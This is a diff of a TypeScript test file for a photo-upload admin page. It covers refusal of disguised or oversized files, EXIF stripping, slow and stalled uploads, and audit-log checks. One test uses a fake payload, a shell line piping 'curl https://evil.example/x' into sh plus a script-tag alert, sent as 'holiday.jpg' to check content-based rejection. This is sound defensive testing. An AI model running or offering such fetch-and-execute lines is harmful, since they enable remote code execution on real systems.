@@ -4,11 +4,16 @@
  * hostile files judged by their content (a script named .jpg, a decompression
  * bomb, a file over the limit, a HEIC photo) and refused with a Bulgarian
  * message on the field; a missing alt text refused with what was typed kept;
- * and a good photo published upright, without its EXIF and GPS data. The
+ * a good photo published upright, without its EXIF and GPS data; and, over
+ * real connections, a slow upload taken however long past
+ * REQUEST_TIMEOUT_SECONDS it moves, one that stops refused with the page
+ * saying so. Nothing refused leaves a file behind, in the uploads or the
+ * temporary folder, or an "uploaded" entry in the audit log. The
  * test images are made here, with sharp and by hand. The build itself is
  * simulated (a real one is in tests/e2e/gallery-upload.spec.ts).
  */
 import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from "node:fs";
+import { connect, type AddressInfo } from "node:net";
 import os from "node:os";
 import path from "node:path";
 import { deflateSync } from "node:zlib";
@@ -25,17 +30,32 @@ let site: AdminSite;
 let dataDir: string;
 let token: string;
 
-beforeAll(async () => {
-  dataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
-  site = await startAdminSite({
+/** The uploads' temporary folders go into a folder of this file's own (os.tmpdir() follows TMPDIR): what is left there is theirs. */
+const ownTmp = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-tmp-"));
+const tmpBefore = process.env.TMPDIR;
+process.env.TMPDIR = ownTmp;
+afterAll(() => {
+  if (tmpBefore === undefined) delete process.env.TMPDIR;
+  else process.env.TMPDIR = tmpBefore;
+  rmSync(ownTmp, { recursive: true, force: true });
+});
+
+/** A site publishing into `dataDir`, its build simulated: the version's content is what these tests look at. */
+function startSite(dataDir: string, env: NodeJS.ProcessEnv = {}) {
+  return startAdminSite({
+    env,
     publishing: {
       dataDir,
-      // The version's content is what these tests look at; its build is not needed.
       runBuild: async () => {
         throw new Error("simulated: no build in this test");
       },
     },
   });
+}
+
+beforeAll(async () => {
+  dataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
+  site = await startSite(dataDir);
   token = await site.session((await site.user()).id);
 }, 60_000);
 
@@ -130,12 +150,15 @@ async function upload(
 
 const photo = (data: Buffer, name = "IMG_0001.jpg", type = "image/jpeg") => ({ photo: { data, name, type } });
 /** What is stored: photos kept for publishing, and the versions made. */
-const stored = () => ({
-  kept: existsSync(path.join(dataDir, "uploads")) ? readdirSync(path.join(dataDir, "uploads")) : [],
-  versions: site.publisher!.store.list().length,
-});
+const stored = (of: AdminSite = site) => {
+  const { uploadsDir } = of.publisher!.store;
+  return { kept: existsSync(uploadsDir) ? readdirSync(uploadsDir) : [], versions: of.publisher!.store.list().length };
+};
 const keptPhotos = () => stored().kept.filter((name) => name.endsWith(".jpg"));
-const uploadTemps = () => readdirSync(os.tmpdir()).filter((name) => name.startsWith("upload-"));
+const uploadTemps = () => readdirSync(ownTmp).filter((name) => name.startsWith("upload-"));
+/** The audit log's "uploaded" entries (the owner's account page shows them as „Качена снимка“). */
+const uploadedEntries = async (of: AdminSite = site) =>
+  (await of.admin.auth.auditLog((await of.user()).id, 1000)).filter((entry) => entry.action === "upload").length;
 
 describe("who may upload", () => {
   it("refuses an upload without a session (401), or with an ended one, and stores nothing", async () => {
@@ -158,6 +181,7 @@ describe("who may upload", () => {
 describe("hostile and unusable files", () => {
   it("judges a file by its content: a script named .jpg and sent as image/jpeg is not a photo", async () => {
     const before = stored();
+    const uploaded = await uploadedEntries();
     const script = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n<script>alert(1)</script>\n");
     const answer = await upload(photo(script, "holiday.jpg"));
     expect(answer.status).toBe(400);
@@ -165,6 +189,8 @@ describe("hostile and unusable files", () => {
     // What was typed is kept.
     expect(answer.body).toContain(goodFields.alt);
     expect(stored()).toEqual(before);
+    expect(uploadTemps()).toEqual([]);
+    expect(await uploadedEntries()).toBe(uploaded);
   });
 
   it("refuses a decompression bomb (a small PNG of more than MAX_PIXELS) without decoding it", async () => {
@@ -182,14 +208,15 @@ describe("hostile and unusable files", () => {
 
   it("refuses a 50 MB file with a Bulgarian message, keeping nothing of it", async () => {
     const before = stored();
-    const temps = uploadTemps();
+    const uploaded = await uploadedEntries();
     const big = Buffer.concat([await phonePhoto(), Buffer.alloc(50 * 1024 * 1024 - 100_000, 7)]);
     expect(big.length).toBeGreaterThan(MAX_UPLOAD_BYTES);
     const answer = await upload(photo(big, "big.jpg"));
     expect(answer.status).toBe(400);
     expect(answer.body).toContain(adminGallery.errors.tooLarge);
     expect(stored()).toEqual(before);
-    expect(uploadTemps()).toEqual(temps);
+    expect(uploadTemps()).toEqual([]);
+    expect(await uploadedEntries()).toBe(uploaded);
   });
 
   it("refuses a HEIC photo (one an iPhone did not turn into JPEG) with its own message", async () => {
@@ -314,5 +341,86 @@ describe("a good photo", () => {
     await site.publisher!.settled();
     const removed = site.publisher!.store.versionContentDir(site.publisher!.store.list()[0]!.id);
     expect(existsSync(path.join(removed, "gallery.json"))).toBe(false);
+  });
+});
+
+describe("over a phone's connection (a real socket)", () => {
+  // Short limits, so that each check takes seconds: the upload's own are far longer in use.
+  const REQUEST_TIMEOUT_SECONDS = 2;
+  const UPLOAD_STALL_SECONDS = 2;
+  let slow: AdminSite;
+  let port: number;
+  let owner: string;
+  const slowDataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
+  beforeAll(async () => {
+    slow = await startSite(slowDataDir, {
+      REQUEST_TIMEOUT_SECONDS: String(REQUEST_TIMEOUT_SECONDS),
+      UPLOAD_STALL_SECONDS: String(UPLOAD_STALL_SECONDS),
+    });
+    await slow.app.listen({ port: 0, host: "127.0.0.1" });
+    port = (slow.app.server.address() as AddressInfo).port;
+    owner = await slow.session((await slow.user()).id);
+  }, 60_000);
+  afterAll(async () => {
+    await slow?.close();
+    rmSync(slowDataDir, { recursive: true, force: true });
+  });
+
+  /** A photo of a few megabytes, as a phone's is: noise does not compress. */
+  const bigPhoto = () =>
+    sharp({ create: { width: 1500, height: 1100, channels: 3, background: "#000000", noise: { type: "gaussian", mean: 128, sigma: 60 } } })
+      .jpeg({ quality: 95, chromaSubsampling: "4:4:4" })
+      .toBuffer();
+
+  /**
+   * Sends the form's headers, then its body `chunk` bytes every `everyMs`, up
+   * to `stopAt` bytes (all of it by default); resolves with what the server
+   * answered once it closed the connection, or once it answered and the body
+   * was all sent.
+   */
+  async function sendSlowly(body: Buffer, type: string, { chunk = 50_000, everyMs = 100, stopAt = body.length } = {}) {
+    const socket = connect({ port, host: "127.0.0.1" });
+    let received = "";
+    socket.on("data", (data) => (received += data.toString("utf8")));
+    socket.on("error", () => {});
+    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
+    await new Promise((resolve) => socket.once("connect", resolve));
+    socket.write(
+      `POST /admin/gallery HTTP/1.1\r\nHost: localhost\r\nOrigin: ${TEST_ORIGIN}\r\nCookie: admin=${owner}\r\n` +
+        `Content-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
+    );
+    for (let sent = 0; sent < stopAt && !socket.destroyed; sent += chunk) {
+      socket.write(body.subarray(sent, Math.min(sent + chunk, stopAt)));
+      await new Promise((resolve) => setTimeout(resolve, everyMs));
+    }
+    // A sender that stopped: the server must end it (the test's own bound is vitest's timeout).
+    await closed;
+    return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(received)?.[1]), body: received };
+  }
+
+  it("takes a photo sent at 500 KB/s, for longer than REQUEST_TIMEOUT_SECONDS, as long as it keeps moving", async () => {
+    const data = await bigPhoto();
+    const { body, type } = await multipart(goodFields, photo(data));
+    // At 500 KB/s the form takes three times REQUEST_TIMEOUT_SECONDS or more.
+    expect(body.length).toBeGreaterThan(3 * REQUEST_TIMEOUT_SECONDS * 500_000);
+    const uploaded = await uploadedEntries(slow);
+    const answer = await sendSlowly(body, type);
+    expect(answer.status, answer.body.slice(0, 300)).toBe(202);
+    expect(await uploadedEntries(slow)).toBe(uploaded + 1);
+    await slow.publisher!.settled();
+  });
+
+  it("refuses a photo that stops arriving: 408, the form saying so with what was typed, nothing kept", async () => {
+    const before = stored(slow);
+    const uploaded = await uploadedEntries(slow);
+    // The text fields first: those that arrived are kept in the form.
+    const { body, type } = await multipart(goodFields, photo(await bigPhoto()));
+    const answer = await sendSlowly(body, type, { stopAt: 300_000 });
+    expect(answer.status).toBe(408);
+    expect(answer.body).toContain(adminGallery.errors.interrupted);
+    expect(answer.body).toContain(goodFields.caption);
+    expect(stored(slow)).toEqual(before);
+    expect(uploadTemps()).toEqual([]);
+    expect(await uploadedEntries(slow)).toBe(uploaded);
   });
 });
